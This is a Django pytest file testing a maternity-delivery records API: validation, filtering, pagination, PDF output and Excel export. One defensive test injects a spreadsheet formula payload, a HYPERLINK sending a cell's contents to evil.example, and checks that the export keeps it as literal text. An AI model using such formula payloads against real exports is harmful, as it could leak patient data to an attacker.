import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from records.models import MaternityDelivery

pytestmark = pytest.mark.django_db

URL = '/api/maternity/deliveries'
UTC = dt.timezone.utc


def _make(name, **kw):
    return MaternityDelivery.objects.create(full_name=name, **kw)


def test_create_with_blank_numbers(midwife, client_for):
    r = client_for(midwife).post(URL, {
        'fullName': 'Mariama Ahmed',
        'fileNumber': 'M-001',
        'origin': 'HD',
        'deliveryDateTime': '2025-02-01T03:15:00Z',
        'deliveryEutocic': 'X',
        'weight': '',
        'newbornLiving': '1',
        'numberOfDeaths': '',
    }, format='json')
    assert r.status_code == 201
    data = r.data['data']
    assert data['weight'] is None
    assert data['newbornLiving'] == 1
    assert data['numberOfDeaths'] is None
    assert data['deliveryType'] == 'eutocic'
    assert data['isMotherDead'] is False
    assert data['localDeliveryDateTime'] == '01/02/2025 06:15'


def test_negative_counts_are_rejected(midwife, client_for):
    r = client_for(midwife).post(URL, {'fullName': 'X', 'numberOfDeaths': -1}, format='json')
    assert r.status_code == 400
    assert 'numberOfDeaths' in r.data['error']['message']


def test_markup_is_stripped(midwife, client_for):
    r = client_for(midwife).post(URL, {'fullName': '<b>Mariama</b>', 'observations': '<script>x</script>RAS'},
                                 format='json')
    assert r.status_code == 201
    assert r.data['data']['fullName'] == 'Mariama'
    assert '<' not in r.data['data']['observations']


def test_filters(midwife, client_for):
    a = _make('Alpha', origin='HD', file_number='F1', delivery_eutocic='X',
              delivery_datetime=dt.datetime(2025, 1, 2, tzinfo=UTC))
    b = _make('Beta', origin='DS', file_number='F2', delivery_dystocic='X', is_mother_dead=True,
              delivery_datetime=dt.datetime(2025, 1, 3, tzinfo=UTC))
    c = _make('Gamma', origin='HD', file_number='F3', delivery_transfert='',
              delivery_datetime=dt.datetime(2025, 1, 1, tzinfo=UTC))
    client = client_for(midwife)

    ids = lambda params: [d['id'] for d in client.get(URL, params).data['data']]
    assert ids({}) == [b.id, a.id, c.id]
    assert ids({'origin': 'HD'}) == [a.id, c.id]
    assert ids({'search': 'f2'}) == [b.id]
    assert ids({'search': 'gam'}) == [c.id]
    assert ids({'deliveryType': 'dystocic'}) == [b.id]
    # an empty marker does not count
    assert ids({'deliveryType': 'transfert'}) == []
    assert ids({'motherStatus': 'dead'}) == [b.id]
    assert ids({'motherStatus': 'alive'}) == [a.id, c.id]


def test_pagination(midwife, client_for):
    for i in range(5):
        _make(f'P{i}')
    r = client_for(midwife).get(URL, {'page': 2, 'pageSize': 2})
    assert len(r.data['data']) == 2
    assert r.data['pagination'] == {'total': 5, 'page': 2, 'pageSize': 2}


def test_pdf(midwife, client_for):
    d = _make('Alpha', delivery_eutocic='X')
    r = client_for(midwife).get(f'{URL}/{d.id}/pdf')
    assert r.status_code == 200
    assert r.content.startswith(b'%PDF')


def test_export_columns_and_range(midwife, client_for):
    _make('Inside', delivery_dystocic='X', delivery_transfert='X', is_mother_dead=True,
          delivery_datetime=dt.datetime(2025, 1, 31, 22, 0, tzinfo=UTC))
    _make('Outside', delivery_datetime=dt.datetime(2025, 1, 31, 20, 0, tzinfo=UTC))
    r = client_for(midwife).get(f'{URL}/export', {'start': '2025-02-01', 'end': '2025-02-28'})
    assert r.status_code == 200
    assert 'accouchements_maternite_01-02-2025_au_28-02-2025.xlsx' in r['Content-Disposition']
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb['Accouchements Maternité']
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    assert len(rows) == 2
    row = dict(zip(header, rows[1]))
    assert row['Nom complet'] == 'Inside'
    assert row["Type d'accouchement"] == 'Dystocique'
    assert row['Mère décédée'] == 'Oui'
    assert row['Adresse'] == '—'
    assert row['Nombre de décès'] == 0
    assert row["Date d'accouchement"] == '01/02/2025 01:00'


def test_export_without_range_is_named_after_today(midwife, client_for):
    r = client_for(midwife).get(f'{URL}/export')
    assert r.status_code == 200
    assert '_au_' not in r['Content-Disposition']
    assert r['Content-Disposition'].startswith('attachment; filename="accouchements_maternite_')


def test_export_rejects_inverted_range(midwife, client_for):
    r = client_for(midwife).get(f'{URL}/export', {'start': '2025-02-10', 'end': '2025-02-01'})
    assert r.status_code == 400


def test_export_keeps_formula_like_text_literal(midwife, client_for):
    name = '=HYPERLINK("http://evil.example/?x="&A2,"Amina")'
    client = client_for(midwife)
    r = client.post(URL, {'fullName': name, 'observations': '+33 suivi', 'fileNumber': '-12'}, format='json')
    assert r.status_code == 201
    assert r.data['data']['fullName'] == name

    wb = load_workbook(io.BytesIO(client.get(f'{URL}/export').content))
    ws = wb['Accouchements Maternité']
    header = [c.value for c in ws[1]]
    cells = dict(zip(header, ws[2]))
    for column, expected in (('Nom complet', name), ('Observations', '+33 suivi'), ('Numéro de dossier', '-12')):
        cell = cells[column]
        assert cell.data_type == 's'
        assert cell.value == expected
        assert cell.quotePrefix
    assert not cells['Adresse'].quotePrefix
